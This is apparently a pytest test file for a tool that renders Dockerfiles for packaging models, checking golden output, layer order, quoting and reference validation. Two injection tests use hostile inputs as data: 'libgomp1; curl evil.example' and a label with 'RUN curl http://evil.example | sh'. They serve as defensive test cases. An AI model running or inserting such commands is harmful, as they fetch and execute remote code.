"""The rendered Dockerfile: golden file, quoting and injection."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from packager.errors import DockerUnavailableError, UsageError
from packager.image.base import validate_reference
from packager.render import TemplateValueError
from packager.stage import MODEL_DIR, BuildPlan, render_dockerfile

GOLDEN = Path(__file__).resolve().parent.parent / "golden" / "Dockerfile.golden"


def plan(**changes: object) -> BuildPlan:
    values: dict[str, object] = {
        "base_image": "packager-base:3.11",
        "python": "3.11",
        "files": (),
        "labels": (
            ("io.packager.version", "0.1.0"),
            ("io.packager.model.name", "wine"),
            ("org.opencontainers.image.description", 'a "quoted" $VALUE'),
        ),
        "environment": (("PACKAGER_MODEL_DIR", MODEL_DIR), ("PACKAGER_PORT", "8080")),
        "system_packages": ("libgomp1",),
        "dockerfile": "",
    }
    values.update(changes)
    return BuildPlan(**values)  # type: ignore[arg-type]


def dockerfile(p: BuildPlan) -> str:
    return render_dockerfile(p)


def test_golden_dockerfile() -> None:
    rendered = dockerfile(plan())
    if os.environ.get("UPDATE_GOLDEN"):
        GOLDEN.write_text(rendered)
    assert rendered == GOLDEN.read_text(), "run with UPDATE_GOLDEN=1 after a deliberate change"


def test_layer_order_and_hygiene() -> None:
    text = dockerfile(plan())
    order = [
        text.index(step)
        for step in (
            "FROM packager-base:3.11 AS dependencies",
            "wheelinstall.py --venv /opt/venv",
            "USER 10001",
            "ENTRYPOINT",
            "COPY --from=dependencies",
            "COPY server/",
            "COPY model-code/",
            "COPY model-artifacts/",
            "COPY model/",
            "LABEL",
        )
    ]
    # Everything a new version of the model keeps comes before its own files, so a
    # rebuild for a new version re-runs only the last steps.
    assert order == sorted(order)
    assert "--lock /tmp/packager/requirements.lock" in text
    assert "--manifest /tmp/packager/wheelhouse.txt" in text
    assert 'ENTRYPOINT ["python", "-m", "packager_server"]' in text
    assert "EXPOSE 8080" in text
    assert "HEALTHCHECK" in text


@pytest.mark.parametrize(("bytecode", "keep_tests"), [(True, False), (False, True)])
def test_installer_flags_follow_the_plan(bytecode: bool, keep_tests: bool) -> None:
    text = dockerfile(plan(bytecode=bytecode, keep_tests=keep_tests))
    assert ("--compile" in text) is bytecode
    assert ("--prune-tests" in text) is not keep_tests


def test_values_are_quoted() -> None:
    text = dockerfile(plan(system_packages=("libgomp1; curl evil.example",)))
    assert "'libgomp1; curl evil.example'" in text
    assert "'org.opencontainers.image.description'='a \"quoted\" $VALUE'" in text


@pytest.mark.parametrize("field", ["labels", "environment"])
def test_a_newline_cannot_inject_an_instruction(field: str) -> None:
    bad = (("io.packager.model.name", "wine\nRUN curl http://evil.example | sh"),)
    with pytest.raises(TemplateValueError):
        dockerfile(plan(**{field: bad}))


@pytest.mark.parametrize(
    "reference",
    ["Wine:1", "wine:", "wine:tag with space", "-wine", "wine:" + "x" * 200, "wine\n:1", ""],
)
def test_invalid_image_references_are_rejected(reference: str) -> None:
    with pytest.raises(UsageError):
        validate_reference(reference)


@pytest.mark.parametrize(
    "reference",
    ["wine", "wine:3", "registry.example.com:5000/team/wine:3", "127.0.0.1:5000/wine:v1.2-rc_1"],
)
def test_valid_image_references(reference: str) -> None:
    assert validate_reference(reference) == reference


def test_unreachable_engine_names_docker_host(monkeypatch: pytest.MonkeyPatch) -> None:
    from packager.image import engine

    monkeypatch.setenv("DOCKER_HOST", "tcp://127.0.0.1:1")
    with pytest.raises(DockerUnavailableError, match=r"tcp://127\.0\.0\.1:1") as info:
        engine.connect()
    assert "DOCKER_HOST" in (info.value.hint or "")


def test_identity_is_quoted_as_the_server_quotes_metric_labels() -> None:
    from packager.verify import _identity

    assert _identity({}) is None
    labels = {"io.packager.model.name": 'a "b"\\c', "io.packager.model.version": "3"}
    assert _identity(labels) == 'model="a \\"b\\"\\\\c",version="3"'
